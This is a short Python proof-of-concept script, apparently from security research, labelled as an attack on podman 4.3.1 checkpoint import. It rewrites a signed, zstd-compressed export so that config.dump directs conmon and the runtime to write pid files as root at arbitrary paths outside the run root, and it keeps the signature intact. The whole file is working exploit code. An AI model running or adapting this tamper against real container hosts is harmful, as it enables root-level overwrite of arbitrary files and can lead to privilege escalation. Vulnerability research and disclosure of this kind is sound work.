"""attack30l: a SIGNED export (signature kept) whose config.dump names pid files outside podman's run root: podman
4.3.1's --import keeps them (it replaces only paths under its run root); conmon and the runtime write them as root.
usage: pidfile.py SRC OUT CONMON_PIDFILE RUNTIME_PIDFILE"""
import io, json, sys, tarfile
import zstandard
src, out, conmon_pid, pid = sys.argv[1:]
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if m.name == "config.dump":
            config = json.loads(d); config["conmonPidFile"] = conmon_pid; config["pid_file"] = pid; d = json.dumps(config).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
